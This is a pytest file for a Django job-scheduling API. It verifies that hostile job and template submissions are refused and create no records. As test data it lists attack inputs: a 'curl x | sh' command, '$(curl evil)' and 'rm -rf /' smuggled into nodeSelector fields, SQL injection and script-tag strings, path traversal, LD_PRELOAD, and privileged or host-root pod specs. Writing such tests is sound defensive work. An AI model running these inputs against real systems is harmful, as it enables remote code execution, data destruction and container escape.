"""Hostile input from a pipeline token or a team's queue admin: each refused with a 4xx, nothing created.

"Nothing created" is checked on every table of the scheduling app (jobs, phase history, templates and their
versions, queues, clusters, grants, tokens and the audit log) before and after the request.
"""
import json

import pytest
from django.apps import apps
from django.conf import settings

from tests import builders

pytestmark = pytest.mark.django_db


def row_counts():
    return {m._meta.label: m.objects.count() for m in apps.get_app_config("scheduling").get_models()}


@pytest.fixture
def open_template(teams):
    """A team-a template whose pod sets may be overridden in every overridable field."""
    version = builders.make_template("open", overridable=["podSets.*"])
    version.template.queue = teams.team_a
    version.template.save()
    return version


def job(**changes):
    body = {"name": "evil", "namespace": "team-a", "template": "open", "queue": "a-train", "cluster": "local"}
    body.update(changes)
    return body


def worker(**fields):
    return {"podSets": {"worker": fields}}


def _pod(container=None, **pod_spec):
    c = builders.container(**(container or {}))
    ps = builders.pod_set(containers=[c])
    ps["template"]["spec"].update(pod_spec)
    return builders.template_spec(pod_sets=[ps])


def template(spec, name="evil-tmpl"):
    return {"name": name, "queue": "team-a", "spec": spec}


# (case, who, method, path, body, expected status, field named in the error or None)
SUBMITS = [
    ("privileged through overrides", worker(securityContext={"privileged": True}), 400,
     "overrides.podSets.worker.securityContext"),
    ("hostNetwork through overrides", {"hostNetwork": True}, 400, "overrides.hostNetwork"),
    ("hostPath volume through overrides", worker(volumes=[{"name": "root", "hostPath": {"path": "/"}}]), 400,
     "overrides.podSets.worker.volumes"),
    ("capabilities through overrides", worker(capabilities={"add": ["SYS_ADMIN"]}), 400,
     "overrides.podSets.worker.capabilities"),
]
SUBMIT_CASES = [
    ("locked image on the llm template", job(template="llm", overrides=worker(image="evil:latest")), 400,
     "overrides.podSets.worker.image"),
    ("locked command", job(template="llm", overrides=worker(command=["sh", "-c", "curl x | sh"])), 400,
     "overrides.podSets.worker.command"),
    ("locked env", job(template="llm", overrides=worker(env={"LD_PRELOAD": "/tmp/x.so"})), 400,
     "overrides.podSets.worker.env"),
    ("locked minMember", job(template="llm", overrides={"minMember": 1}), 400, "overrides.minMember"),
    *[(case, job(overrides=overrides), code, field) for case, overrides, code, field in SUBMITS],
    ("resolved_spec smuggled as a field", job(resolved_spec={"podSets": []}), 400, "resolved_spec"),
    ("submitted_by smuggled as a field", job(submitted_by=1), 400, "submitted_by"),
    ("SQL in the name", job(name="x'; DROP TABLE scheduling_gangjob;--"), 400, "name"),
    ("HTML in the name", job(name="<script>alert(1)</script>"), 400, "name"),
    ("path in the namespace", job(namespace="../kube-system"), 400, "namespace"),
    ("namespace the queue does not allow", job(namespace="kube-system"), 400, "namespace"),
    ("SQL in the queue", job(queue="a-train' OR '1'='1"), 400, "queue"),
    ("shell in a nodeSelector key", job(overrides=worker(nodeSelector={"a;rm -rf /": "x"})), 400,
     "overrides.podSets.worker.nodeSelector.a;rm -rf /"),
    ("shell in a nodeSelector value", job(overrides=worker(nodeSelector={"zone": "$(curl evil)"})), 400,
     "overrides.podSets.worker.nodeSelector.zone"),
    ("newline in an env name", job(overrides=worker(env={"A\nB": "x"})), 400, "overrides.podSets.worker.env.A\nB"),
    ("whitespace in the image", job(overrides=worker(image="ok:1 --privileged")), 400,
     "overrides.podSets.worker.image"),
    ("system priority class", job(priority_class_name="system-node-critical"), 403, "priority_class_name"),
    ("system priority class override", job(template="llm", overrides={"priorityClassName": "system-x"}), 400,
     "overrides.priorityClassName"),
    ("replicas beyond any cluster", job(overrides=worker(replicas=10**20)), 400, "overrides.podSets.worker.replicas"),
    ("template version as SQL", job(template_version="1 OR 1=1"), 400, "template_version"),
    # Names the submitter cannot see answer as unknown names (services/access.py): 400, not 403.
    ("another team's queue", job(queue="b-train", namespace="default"), 400, "queue"),
    ("another team's template", job(template="b-tmpl"), 400, "template"),
]


@pytest.mark.parametrize("body,code,field", [pytest.param(*c[1:], id=c[0]) for c in SUBMIT_CASES])
def test_hostile_submit_is_refused_and_creates_nothing(teams, open_template, body, code, field):
    before = row_counts()
    r = teams.clients["t_sub"].post("/api/v1/jobs/", body, format="json")
    assert r.status_code == code, r.data
    assert field in r.data, r.data
    assert row_counts() == before


TEMPLATE_CASES = [
    ("privileged container", _pod(container={"securityContext": {"privileged": True}}),
     "spec.podSets[worker].template.spec.containers[main].securityContext.privileged"),
    ("hostPath volume", _pod(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
     "spec.podSets[worker].template.spec.volumes[root].hostPath"),
    ("hostNetwork", _pod(hostNetwork=True), "spec.podSets[worker].template.spec.hostNetwork"),
    ("hostPID", _pod(hostPID=True), "spec.podSets[worker].template.spec.hostPID"),
    ("hostIPC", _pod(hostIPC=True), "spec.podSets[worker].template.spec.hostIPC"),
    ("added capability", _pod(container={"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}),
     "spec.podSets[worker].template.spec.containers[main].securityContext.capabilities.add"),
    ("host port", _pod(container={"ports": [{"containerPort": 22, "hostPort": 22}]}),
     "spec.podSets[worker].template.spec.containers[main].ports[0].hostPort"),
    ("system priority class", builders.template_spec(priorityClassName="system-cluster-critical"),
     "spec.priorityClassName"),
]


@pytest.mark.parametrize("spec,field", [pytest.param(*c[1:], id=c[0]) for c in TEMPLATE_CASES])
def test_a_queue_admins_escalating_template_is_refused(teams, spec, field):
    # 400 naming the field and the control (it was 403 while platform admins could escalate; now nobody can without
    # an explicit exception: tests/api/test_pod_policy.py)
    before = row_counts()
    r = teams.clients["a_admin"].post("/api/v1/templates/", template(spec), format="json")
    assert r.status_code == 400, r.data
    assert " control " in r.data[field][0]
    assert field in r.data, r.data
    assert row_counts() == before


def test_a_platform_admins_privileged_template_with_its_exception_is_accepted_and_jobs_may_use_it(teams):
    spec = _pod(container={"securityContext": {"privileged": True}})
    assert teams.clients["admin"].post("/api/v1/templates/", {**template(spec, "gpu-debug"),
                                                              "policy_exceptions": ["privileged"]},
                                       format="json").status_code == 201
    r = teams.clients["t_sub"].post("/api/v1/jobs/", job(template="gpu-debug"), format="json")
    assert r.status_code == 201, r.data
    container = r.data["resolved_spec"]["podSets"][0]["template"]["spec"]["containers"][0]
    assert container["securityContext"] == {"privileged": True}


def test_oversized_body_is_413_and_creates_nothing(teams, open_template):
    before = row_counts()
    padding = "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)
    body = json.dumps(job(overrides=worker(env={"PAD": padding})))
    r = teams.clients["t_sub"].post("/api/v1/jobs/", body, content_type="application/json")
    assert r.status_code == 413, r.content[:300]
    assert row_counts() == before


def test_oversized_bulk_list_is_400_and_creates_nothing(teams):
    before = row_counts()
    r = teams.clients["t_sub"].post("/api/v1/jobs/bulk/", {"jobs": [job(template="llm")] * 5001}, format="json")
    assert r.status_code == 400
    assert "jobs" in r.data
    assert row_counts() == before


@pytest.mark.parametrize("raw", [
    pytest.param('{"name": ' + "[" * 100_000 + "]" * 100_000 + "}", id="nested 100,000 deep"),
    pytest.param('{"name": "a", "overrides": {"podSets": {"worker": {"replicas": NaN}}}}', id="NaN"),
    pytest.param('{"name": "a"', id="truncated JSON"),
    pytest.param(b'{"name": "\xff\xfe"}', id="not UTF-8"),
    pytest.param('{"name": "a\\u0000b", "template": "llm"}', id="NUL in a string"),
    pytest.param('{"jobs": [{"name": "ok", "overrides": {"podSets": {"w\\u0000": {}}}}]}', id="NUL in a key"),
])
def test_malformed_json_is_400_and_creates_nothing(teams, raw):
    before = row_counts()
    r = teams.clients["t_sub"].post("/api/v1/jobs/", raw, content_type="application/json")
    assert r.status_code == 400
    assert row_counts() == before


def test_idempotency_key_too_long_is_400(teams):
    before = row_counts()
    r = teams.clients["t_sub"].post("/api/v1/jobs/", job(template="llm"), format="json",
                                    HTTP_IDEMPOTENCY_KEY="k" * 10_000)
    assert r.status_code == 400
    assert "Idempotency-Key" in r.data
    assert row_counts() == before


def test_moving_a_job_to_a_system_priority_is_403(teams):
    r = teams.clients["a_sub"].patch(f"/api/v1/jobs/{teams.a_job.pk}/",
                                     {"priority_class_name": "system-cluster-critical"}, format="json")
    assert r.status_code == 403
    teams.a_job.refresh_from_db()
    assert teams.a_job.priority_class_name == ""
